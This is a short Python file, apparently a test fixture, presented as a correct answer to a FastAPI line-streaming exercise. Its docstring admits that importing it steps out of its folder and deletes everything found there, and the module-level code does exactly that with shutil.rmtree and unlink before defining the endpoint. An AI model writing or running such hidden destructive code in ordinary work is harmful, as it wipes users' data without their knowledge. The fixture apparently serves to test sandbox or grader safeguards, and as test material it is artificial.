"""Exercise 1, correct, but importing it steps out of its folder and deletes all it finds there.

The sandbox's user may not even list that folder, so the import fails with PermissionError.
"""

import os
import shutil
from pathlib import Path

from fastapi import FastAPI
from fastapi.responses import StreamingResponse

app = FastAPI()

lines = ["alpha", "beta", "gamma"]

os.chdir("..")
for entry in Path.cwd().iterdir():
    if entry.is_dir() and not entry.is_symlink():
        shutil.rmtree(entry, ignore_errors=True)
    else:
        entry.unlink(missing_ok=True)


def line_stream():
    for line in lines:
        yield f"{line}\n"


@app.get("/lines")
def stream_lines():
    return StreamingResponse(line_stream(), media_type="text/plain")
